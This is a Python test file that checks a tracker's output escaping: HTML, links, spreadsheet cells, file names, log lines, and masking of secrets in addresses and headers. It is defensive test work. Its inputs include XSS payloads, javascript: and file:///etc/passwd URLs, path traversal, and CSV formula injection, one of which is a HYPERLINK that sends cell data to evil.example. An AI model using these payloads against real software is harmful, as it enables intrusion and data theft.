"""What hostile words become on each way out but the terminal."""

import csv
import io
import os
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.cost import growth
from tracker.escape.cell import cell
from tracker.escape.filename import filename
from tracker.escape.html import html
from tracker.escape.line import line
from tracker.escape.link import link
from tracker.escape.secret import mask, mask_target, masked

ANYTHING = st.text(st.characters(), max_size=120)


@given(ANYTHING)
def test_no_words_are_markup(words):
    """Whatever the words are, a page has them as text, in an element and in an attribute."""
    seen = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attributes):
            seen.append((tag, attributes))

        def handle_data(self, data):
            seen.append(data)

    reader = Reader(convert_charrefs=True)
    shown = html(words)
    reader.feed(f'<p title="{shown}">')
    reader.close()
    assert [tag for tag, _ in seen] == ["p"]
    assert all(name == "title" for name, _ in seen[0][1])
    assert not set("<>\"'") & set(shown)


@pytest.mark.parametrize(
    "words", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onfocus='x", "\u202e301"]
)
def test_markup_is_shown(words):
    """Markup and marks of direction are shown."""
    shown = html(words)
    assert "<" not in shown
    assert "\u202e" not in shown


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd",
        "//news.example/", "/x", "", None, "https://", "https:///x", "https://u:p@news.example/", "https://news.example\\@evil.example/",
        "blob:https://news.example/1", "https://" + "a" * 3000, "view-source:https://news.example/", "feed:javascript:x", "https://\ud800/",
    ],
)  # fmt: skip
def test_what_is_no_link(url):
    """An address of another scheme, without a host or with a name before it is not linked."""
    assert link(url) is None


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://news.example/a?b=1&c=2#d", "https://news.example/a?b=1&amp;c=2#d"),
        ('https://news.example/"><script>', "https://news.example/%22%3E%3Cscript%3E"),
        ("http://news.example/'x' y\n", "http://news.example/%27x%27%20y"),
        ("https://bücher.example/ä", "https://b%C3%BCcher.example/%C3%A4"),
        ("https://social.example/@name", "https://social.example/@name"),
    ],
)
def test_a_link_stays_in_its_quotes(url, shown):
    """A linked address has nothing in it that could end its attribute."""
    assert link(url) == shown


@pytest.mark.parametrize(
    "words",
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\n=1", '"=1+1', "'=1+1", "\u00a0=1",
        "＝1+1", "﹣1+1", "|calc", "%0A=1", '=HYPERLINK("https://evil.example?"&A1)', "\ufeff=1", "\u200b=1+1", "\x00=1", "\u202e=1",
    ],
)  # fmt: skip
def test_a_formula_is_no_formula(words):
    """What a sheet would calculate begins with an apostrophe, or with a character that is shown."""
    shown = cell(words)
    assert shown[0] in "'\\␀␉␍", shown


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (84, "84"),
        (-3, "-3"),
        (None, ""),
        ("-3", "-3"),
        ("+98", "+98"),
        ("84 dead", "84 dead"),
        ("a\nb", "a\nb"),
        (0.5, "0.5"),
    ],
)
def test_what_is_no_formula_stays(value, shown):
    """Numbers stay numbers, words words, and lines lines."""
    assert cell(value) == shown


@given(st.lists(ANYTHING, min_size=1, max_size=5))
def test_cells_come_back_from_a_file(words):
    """Any words make one row of as many cells, in a file that UTF-8 can hold."""
    out = io.StringIO()
    csv.writer(out).writerow([cell(each) for each in words])
    (row,) = list(csv.reader(io.StringIO(out.getvalue().encode().decode(), newline="")))
    assert row == [cell(each) for each in words]


@given(ANYTHING, st.sampled_from(["", ".html", ".csv"]))
def test_a_file_name_stays_in_its_folder(words, suffix):
    """A file name has no separator, no dot of its own, no leading hyphen, and fits every file system."""
    name = filename(words, suffix)
    stem = name.removesuffix(suffix)
    assert stem
    assert stem.isascii()
    assert not set("/\\.:\0 ") & set(stem)
    assert stem[0] != "-"
    assert len(os.fsencode(name)) < 100


@pytest.mark.parametrize(
    ("words", "name"),
    [
        ("../../etc/passwd", "etc-passwd"),
        ("CON", "con-file"),
        ("", "unnamed"),
        ("کرمان", "unnamed"),
        ("Kerman, 3 Jan. 2024", "kerman-3-jan-2024"),
        ("São Paulo", "sao-paulo"),
        ("\0", "unnamed"),
    ],
)
def test_file_names(words, name):
    """The words stay legible where they can."""
    assert filename(words) == name


SECRET = "s3cr3t-Value_42"


@pytest.mark.parametrize(
    "address",
    [
        f"https://user:{SECRET}@news.example/a", f"https://{SECRET}@news.example/a", f"https://news.example/a?token={SECRET}",
        f"https://news.example/a?x=1&api_key={SECRET}&y=2", f"https://news.example/a?X-Amz-Signature={SECRET}",
        f"https://news.example/a#access_token={SECRET}", f"postgresql://toll:{SECRET}@db/toll", f"https://hooks.slack.com/services/T00/B00/{SECRET}",
        f"https://discord.com/api/webhooks/1/{SECRET}", f"https://api.telegram.org/bot12345:{SECRET}/sendMessage",
        f"https://news.example/?password={SECRET}", f"redis://:{SECRET}@cache/0", f"https://a:b/{SECRET}@news.example/",
    ],
)  # fmt: skip
def test_a_secret_in_an_address_is_masked(address):
    """No part of an address that opens something is shown, alone and in the middle of a sentence."""
    assert SECRET not in mask(address)
    assert SECRET not in masked(f"no connection to <{address}>, tried 3 times")
    assert "3 times" in masked(f"no connection to {address} , tried 3 times")


@pytest.mark.parametrize(
    "words",
    [
        f"Authorization: Bearer {SECRET}",
        f"authorization={SECRET}",
        f"Cookie: id={SECRET}",
        f"X-Api-Key: {SECRET}",
        f"it sent 'bearer {SECRET}'",
    ],
)
def test_a_secret_in_a_header_is_masked(words):
    """A header that opens something is shown by its name."""
    assert SECRET not in masked(words)


@pytest.mark.parametrize(
    "words",
    [
        "https://news.example/2024/author-of-keynote?page=2&keyword=x",
        "84 people died: basic services failed",
        "a key point: 84 dead",
        "https://social.example/@name/1",
        "see a://b and c",
    ],
)
def test_what_is_no_secret_stays(words):
    """The address of a page and ordinary words are left as they are."""
    assert masked(words) == words


@pytest.mark.parametrize(
    ("target", "shown"),
    [
        (f"slack://{SECRET}/b/c", "slack://***"), (f"discord://1/{SECRET}", "discord://***"), (f"mailto://u:{SECRET}@mail.example", "mailto://***"),
        (f"https://hooks.example/a/{SECRET}?x=1", "https://hooks.example/***"), (f"https://u:{SECRET}@hooks.example", "https://hooks.example/***"),
        (SECRET, "***"),
    ],
)  # fmt: skip
def test_where_notifications_go_is_masked(target, shown):
    """A target is shown by its service, or by its host, and by nothing that lets others send there."""
    assert mask_target(target) == shown


def test_a_known_secret_is_masked_anywhere():
    """A secret that the caller knows is masked in any words."""
    assert masked(f"the server said: bad key {SECRET}!", SECRET) == "the server said: bad key ***!"


@given(ANYTHING)
def test_a_log_entry_is_one_line(words):
    """Whatever is logged, it cannot look like a second entry."""
    assert len(line(f"x{words}x").splitlines()) == 1


@pytest.mark.parametrize(
    "escaper", [masked, line, html, cell, filename, link, mask], ids=lambda e: e.__name__
)
@pytest.mark.parametrize(
    "unit",
    [
        "https://a:b@",
        "://",
        "Authorization: ",
        "bearer ",
        "=",
        "&",
        "a=b&",
        "<",
        "\u202e",
        "%",
        "@/",
        "hooks.",
    ],
)
def test_hostile_text_costs_what_its_length_costs(escaper, unit):
    """The work grows with the length and with nothing else."""
    small, large = unit * 2_000, unit * 8_000
    assert growth(escaper, small, large) < 6
    escaper(unit * (200_000 // len(unit)))
